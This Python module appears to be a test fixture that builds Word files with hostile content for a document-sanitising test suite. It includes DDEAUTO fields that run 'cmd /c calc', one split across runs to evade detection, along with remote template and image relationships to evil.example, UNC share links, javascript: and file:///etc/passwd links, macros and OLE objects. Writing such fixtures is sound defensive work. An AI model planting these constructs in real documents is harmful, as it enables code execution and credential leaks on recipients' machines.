"""Word files as a stranger may send them: with macros, embedded objects, fields that run, links out.

In: a Word file. Out: the same with something more in it. Next: `test_words` has each imported, compared and
tracked.
"""

import io
import zipfile

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
RELATIONSHIPS = f'<Relationships xmlns="{PACKAGE}/relationships">%s</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPLIT = "<w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd /c calc </w:instrText>"


def field(code, shown="shown"):
    """Return a run with a field: `code` is XML that stands where its code does."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r>{code}</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def instruction(text):
    return f'<w:instrText xml:space="preserve"> {text} </w:instrText>'


def simple(text):
    return f'<w:fldSimple w:instr=" {text} "><w:r><w:t>shown</w:t></w:r></w:fldSimple>'


NESTED = field(f"</w:r>{field(instruction('QUOTE 68 68 69'))}<w:r>{instruction('x')}")
FIELDS = {
    "a DDE field": field(instruction('DDE excel "book" "cell"')),
    "a DDE field that is spread over runs": field(SPLIT),
    "a DDE field in one element": simple("DDEAUTO c:\\\\cmd /c"),
    "a field that includes a picture": field(instruction('INCLUDEPICTURE "http://evil.example/x.png" \\d')),
    "a field that includes a text": simple("INCLUDETEXT c:\\\\secret.txt"),
    "a field that links a file": field(instruction("LINK Excel.Sheet c:\\\\x.xls")),
    "a field that runs a macro": simple("MACROBUTTON Run press"),
    "a field that asks a database": field(instruction('DATABASE \\d "x"')),
    "a field that is put together": NESTED,
    "a field without a name": field(instruction("")),
    "a field that links a share": field(instruction('HYPERLINK "\\\\host\\share"')),
    "a field that links a file of the machine": simple("HYPERLINK \\o &quot;tip&quot; &quot;file:///x&quot;"),
}
"""Fields that do more than show what is in the file."""
HARMLESS = {
    "a page's number": simple("PAGE"),
    "a reference": field(instruction("REF a \\n \\h")),
    "a link": field(instruction('HYPERLINK "https://example.org" \\o "a tip"')),
    "a link inside": simple("HYPERLINK \\l &quot;a&quot;"),
    "a sum": simple("=SUM(ABOVE)"),
}
RELATIONS = {
    "a template from elsewhere": ("attachedTemplate", "http://evil.example/x.dotm", "External"),
    "a template of a share": ("attachedTemplate", "\\\\host\\x.dotm", "External"),
    "a picture from elsewhere": ("image", "http://evil.example/x.png", "External"),
    "an object from elsewhere": ("oleObject", "http://evil.example/x.bin", "External"),
    "a frame from elsewhere": ("frame", "http://evil.example/", "External"),
    "a part of a document from elsewhere": ("subDocument", "x.docx", "External"),
    "a mail merge": ("mailMergeSource", "file:///c:/x.mdb", "External"),
    "a link that is a script": ("hyperlink", "javascript:x", "External"),
    "a link to a file": ("hyperlink", "file:///etc/passwd", "External"),
    "a link to a share": ("hyperlink", "\\\\host\\share", "External"),
    "a link to a program": ("hyperlink", "ms-word:ofe|u|http://x", "External"),
    "macros": ("vbaProject", "vbaProject.bin", ""),
    "an embedded object": ("oleObject", "embeddings/oleObject1.bin", ""),
    "an embedded table": ("package", "embeddings/x.xlsx", ""),
    "a control": ("control", "activeX/activeX1.xml", ""),
    "a document in another form": ("aFChunk", "chunk.html", ""),
    "a part of no kind": ("", "x.bin", ""),
}
"""Relationships to what acts, or is fetched when the file is opened: kind, target and mode."""


def plain(*texts):
    """Return a small Word file with a paragraph for each text."""
    body = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts)
    to = f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
            "_rels/.rels": RELATIONSHIPS % to,
            "word/_rels/document.xml.rels": RELATIONSHIPS % "",
            "word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{body}<w:sectPr/></w:body></w:document>',
        }
    )


def with_field(docx, field):
    """Return a Word file with a field in a paragraph before its last section."""
    parts = unzipped(docx)
    head, mark, rest = parts["word/document.xml"].decode().rpartition("<w:sectPr")
    parts["word/document.xml"] = f"{head}<w:p>{field}</w:p>{mark}{rest}".encode()
    return zipped(parts)


def with_relation(docx, kind, target, mode):
    """Return a Word file with one relationship more, and with the part that it leads to."""
    said = f' TargetMode="{mode}"' if mode else ""
    parts, rels = unzipped(docx), "word/_rels/document.xml.rels"
    more = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{said}/>'
    parts[rels] = parts[rels].decode().replace("</Relationships>", f"{more}</Relationships>").encode()
    if not mode:
        parts[f"word/{target}"] = b"<x/>" if target.endswith(("xml", "html")) else b"CANARY"
    return zipped(parts)


def unzipped(docx):
    """Return the parts of a Word file."""
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts):
    """Return parts as a Word file."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()
